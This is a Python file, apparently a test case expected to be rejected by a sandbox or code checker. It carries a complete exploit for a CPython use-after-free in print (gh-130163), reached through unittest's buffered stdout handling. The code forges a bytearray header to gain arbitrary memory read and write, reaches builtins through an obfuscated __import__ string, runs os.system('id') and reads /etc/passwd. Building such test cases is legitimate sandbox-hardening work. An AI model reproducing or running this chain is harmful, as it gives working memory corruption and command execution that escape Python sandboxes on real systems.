# expect: reject memory
# line: 43
# why: round 79: a buffered unittest result made inside a redirect puts the redirect's stream back as sys.stdout in stopTest; dropped from print's __str__, the stream is freed under print (gh-130163), then id (verified under 3.11.2)
# ok01: gh-130163 (print holds sys.stdout borrowed) without ending a redirect early.
# unittest.TestResult(buffer=True) is a second writer of sys.stdout: it captures
# sys.stdout at construction (_original_stdout) and stopTest() puts it back.  The
# result is built inside `with redirect_stdout(F())`, so after the with ends,
# stopTest() makes the program's F sys.stdout again, held only by the result.  An
# argument's __str__ calls startTest() (sys.stdout := its StringIO) and drops the
# result: F is freed under print; the separator write runs F.write on the freed F,
# a bytearray reclaims it as a forged header -> all memory -> builtins -> os.system("id").
import contextlib
import io
import sys
import unittest

real = sys.stdout


class F:
    __slots__ = ("a", "b", "c", "d", "e", "f")

    def write(self, s):
        calls.append(s)
        if len(calls) > 1:
            got.append(self)
        return len(s)

    def flush(self):
        pass


got = []
calls = []


class T(unittest.TestCase):
    def test_a(self):
        pass


t = T("test_a")
runner = unittest.TextTestRunner(stream=io.StringIO(), buffer=True)
with contextlib.redirect_stdout(F()):
    hold = [runner.run(unittest.TestSuite())]
hold[0].startTest(t)
hold[0].stopTest(t)


class Obj:
    def __str__(self):
        hold[0].startTest(t)
        hold.clear()
        return "x"


print(Obj(), "y")
z = got[-1]


def w8(v):
    return v.to_bytes(8, "little")


hdr = b"".join([w8(x) for x in [1 << 40, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0]])
payload = bytes(16) + hdr + bytes(79 - 16 - len(hdr))
keep = []
for i in range(2000):
    keep.append(bytearray(payload))
    if type(z) is bytearray:
        break
mem = z
print(type(mem).__name__, "after", len(keep), file=real)
a = id(w8) + 24
target = sum([mem[a + i] << (8 * i) for i in range(8)])
cell = [None]
count = sum([mem[target + i] << (8 * i) for i in range(8)])
mem[target:target + 8] = w8(count + 1)
b = id(cell) + 24
slot = sum([mem[b + i] << (8 * i) for i in range(8)])
mem[slot:slot + 8] = w8(target)
table = cell[0]
print(type(table).__name__, len(table), file=real)
loader = table["_" * 2 + "import" + "_" * 2]
osm = loader("o" + "s")
real.flush()
osm.system("id")
print(table["open"]("/etc/passwd").read()[:120], file=real)
